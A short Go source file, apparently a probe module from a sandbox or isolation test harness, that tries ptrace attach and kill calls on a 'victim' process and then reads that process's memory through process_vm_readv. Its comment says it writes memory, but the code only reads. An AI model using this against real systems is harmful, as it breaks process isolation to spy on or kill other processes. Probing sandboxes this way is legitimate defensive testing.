package main

import (
	"syscall"
	"unsafe"

	"example.com/hostile/attack"
)

func init() { techniques["ptrace"] = tryPtrace }

// tryPtrace traces a process, and writes to its memory.
func tryPtrace() {
	for _, way := range attack.Ways {
		if way(syscall.SYS_PTRACE, 16, attack.Victim(), 0, 0, 0, 0) == 0 {
			way(syscall.SYS_PTRACE, 8, attack.Victim(), 0, 0, 0, 0)
		}
		buffer := make([]byte, 64)
		local := attack.Words(uintptr(unsafe.Pointer(&buffer[0])), 64)
		remote := attack.Words(0x400000, 64)
		if way(310, attack.Victim(), local, 1, remote, 1, 0) > 0 {
			println("memory of another process")
		}
	}
}
